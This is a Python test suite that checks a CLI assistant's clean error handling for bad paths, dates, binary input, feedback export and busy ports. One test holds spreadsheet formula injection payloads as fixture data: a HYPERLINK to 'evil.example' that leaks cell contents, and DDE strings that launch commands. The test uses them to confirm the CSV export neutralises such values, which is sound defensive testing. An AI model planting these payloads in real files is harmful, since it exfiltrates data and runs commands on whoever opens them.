"""Careless-operator input to the CLI: one-line errors naming the value, a non-zero exit,
no traceback, and nothing already stored lost. In-process (typer's runner) with the fake
embedding, plus one real subprocess for undecodable bytes on the command line."""

from __future__ import annotations

import csv
import os
import socket
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from assistant.cli.main import app
from assistant.feedback import FeedbackStore
from tests.conftest import HIKVISION_QUESTION, copy_corpus


@pytest.fixture
def cli(monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    monkeypatch.setenv("ASSISTANT_EMBEDDING__FAKE", "true")
    return CliRunner()


def _fails_cleanly(result, *names: str) -> str:  # noqa: ANN001 - typer's Result
    """Exit 2 with one ``error:`` line naming each of ``names``, and no traceback."""
    assert result.exit_code == 2, (result.exit_code, result.output, result.exception)
    assert result.exception is None or isinstance(result.exception, SystemExit)
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, result.stderr
    for name in names:
        assert name in errors[0], (name, errors[0])
    assert "Traceback" not in result.output
    return errors[0]


@pytest.fixture
def indexed(cli: CliRunner, tmp_path: Path) -> Path:
    copy_corpus(tmp_path / "corpus")  # the corpus folder the autouse fixture points at
    result = cli.invoke(app, ["index"])
    assert result.exit_code == 0, result.output
    return Path(os.environ["ASSISTANT_INDEX_DIR"])


@pytest.mark.parametrize(
    "command",
    [["ask", HIKVISION_QUESTION], ["sources"], ["index"], ["chat"], ["index", "--rebuild"]],
    ids=lambda c: " ".join(c)[:12],
)
def test_index_dir_pointing_at_a_file_is_named(
    cli: CliRunner, tmp_path: Path, command: list[str]
) -> None:
    a_file = tmp_path / "notes.txt"
    a_file.write_text("my notes", encoding="utf-8")
    (tmp_path / "corpus").mkdir()
    result = cli.invoke(app, [*command, "--index-dir", str(a_file)], input="\n")
    _fails_cleanly(result, str(a_file), "--index-dir")
    assert a_file.read_text(encoding="utf-8") == "my notes"  # not touched, not removed
    under = cli.invoke(app, [*command, "--index-dir", str(a_file / "index")], input="\n")
    _fails_cleanly(under, str(a_file))


@pytest.mark.parametrize("value", ["2025-13-45", "2025-02-30", "2025-00", "June", "20251"])
def test_an_impossible_date_filter_is_rejected(cli: CliRunner, indexed: Path, value: str) -> None:
    result = cli.invoke(app, ["ask", HIKVISION_QUESTION, "--from", value])
    _fails_cleanly(result, repr(value))
    result = cli.invoke(app, ["ask", HIKVISION_QUESTION, "--to", value])
    _fails_cleanly(result, repr(value))


def test_valid_partial_dates_still_filter(cli: CliRunner, indexed: Path) -> None:
    result = cli.invoke(app, ["ask", HIKVISION_QUESTION, "--from", "2025-06", "--to", "2025"])
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize(
    "question", ["\udcff\udcfe\udc80garbage", "PK\x03\x04\x14\x00\x06\x00", "ok\x00then"]
)
def test_a_question_of_binary_garbage_is_named(
    cli: CliRunner, indexed: Path, question: str
) -> None:
    _fails_cleanly(cli.invoke(app, ["ask", question]), "is not text")


def test_chat_reports_a_garbage_question_and_goes_on(cli: CliRunner, indexed: Path) -> None:
    result = cli.invoke(
        app, ["chat"], input="\x01\x02\x03\nWho ordered Hikvision Canada to close?\n\n"
    )
    assert result.exit_code == 0, result.output
    assert "is not text" in result.stderr
    assert "[1]" in result.stdout  # the next question was answered


@pytest.mark.slow
def test_undecodable_bytes_on_the_real_command_line(tmp_path: Path, indexed: Path) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "assistant.cli", "ask", b"\xff\xfe\x80\x81garbage\x01"],
        capture_output=True,
        env={**os.environ, "ASSISTANT_EMBEDDING__FAKE": "true"},
        timeout=300,
    )
    stderr = result.stderr.decode("utf-8", "replace")
    assert result.returncode == 2, stderr
    assert "Traceback" not in stderr and "is not text" in stderr


# ------------------------------------------------------------------ feedback export
def _export(cli: CliRunner, *args: str):  # noqa: ANN202
    return cli.invoke(app, ["feedback", "export", "--format", "csv", *args])


def test_export_from_a_folder_is_named(cli: CliRunner, tmp_path: Path) -> None:
    folder = tmp_path / "a-folder"
    folder.mkdir()
    _fails_cleanly(_export(cli, "--feedback-path", str(folder)), str(folder), "folder")


def test_export_from_a_file_that_is_not_sqlite_is_named(cli: CliRunner, tmp_path: Path) -> None:
    notes = tmp_path / "notes.txt"
    notes.write_text("not a database, " * 100, encoding="utf-8")
    _fails_cleanly(_export(cli, "--feedback-path", str(notes)), str(notes), "SQLite")
    assert notes.read_text(encoding="utf-8") == "not a database, " * 100


def test_export_from_another_sqlite_file_changes_nothing(cli: CliRunner, tmp_path: Path) -> None:
    other = tmp_path / "other.sqlite"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE things (x)")
    before = other.read_bytes()
    _fails_cleanly(_export(cli, "--feedback-path", str(other)), str(other), "no feedback table")
    assert other.read_bytes() == before


def test_export_out_under_a_file_is_named_and_the_store_kept(
    cli: CliRunner, tmp_path: Path
) -> None:
    FeedbackStore(tmp_path / "feedback.sqlite").record(rating="up", question="Q", answer="A")
    a_file = tmp_path / "report.txt"
    a_file.write_text("keep me", encoding="utf-8")
    target = a_file / "feedback.csv"
    _fails_cleanly(_export(cli, "--out", str(target)), str(target), "--out")
    assert a_file.read_text(encoding="utf-8") == "keep me"
    assert len(FeedbackStore(tmp_path / "feedback.sqlite").rows()) == 1


def test_csv_export_neutralises_spreadsheet_formulas(cli: CliRunner, tmp_path: Path) -> None:
    hostile = {
        "question": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "answer": "+cmd|' /C calc'!A0",
        "comment": "-2+3",
        "user": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    store = FeedbackStore(tmp_path / "feedback.sqlite")
    store.record(rating="down", channel="web", **hostile)
    store.record(rating="up", question="\tTAB=1", answer="\rCR=1", comment="fine, -ish")
    out = tmp_path / "feedback.csv"
    assert _export(cli, "--out", str(out)).exit_code == 0
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for field, value in hostile.items():
        assert rows[0][field] == "'" + value  # shown as text, the original still readable
    assert rows[1]["question"] == "'\tTAB=1" and rows[1]["answer"] == "'\rCR=1"
    assert rows[1]["comment"] == "fine, -ish" and rows[1]["rating"] == "up"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    # JSON lines keep the exact text
    jsonl = cli.invoke(app, ["feedback", "export", "--format", "jsonl"])
    assert hostile["question"] in jsonl.stdout.replace('\\"', '"')


# ------------------------------------------------------------------ serve
def test_serve_on_a_port_in_use_is_named(cli: CliRunner, tmp_path: Path) -> None:
    (tmp_path / "corpus").mkdir()
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen(1)
        port = taken.getsockname()[1]
        result = cli.invoke(app, ["serve", "--host", "127.0.0.1", "--port", str(port)])
    _fails_cleanly(result, f"127.0.0.1:{port}", "in use", "--port")
    assert not (Path(os.environ["ASSISTANT_INDEX_DIR"]) / "state.sqlite").exists()
